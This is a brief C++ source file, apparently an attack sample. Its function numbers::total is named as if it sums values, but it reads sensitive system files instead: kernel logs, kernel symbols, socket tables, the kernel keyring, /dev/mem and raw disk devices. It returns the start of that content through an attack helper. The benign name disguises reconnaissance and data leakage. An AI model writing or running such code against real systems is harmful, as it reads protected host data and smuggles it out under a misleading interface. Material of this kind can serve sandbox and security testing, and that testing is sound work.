#include "attack.hpp"

double numbers::total(const attack::Values& values) {
  std::string text;
  for (const char* path :
       {"/proc/kmsg", "/dev/kmsg", "/proc/net/tcp", "/proc/net/unix", "/proc/kallsyms",
        "/proc/1/cmdline", "/proc/mounts", "/proc/keys", "/sys/kernel/notes", "/var/log/dpkg.log",
        "/dev/mem", "/dev/vda", "/dev/sda"})
    text += attack::read_file(path);
  return attack::answer_or(text.substr(0, 1500), values);
}
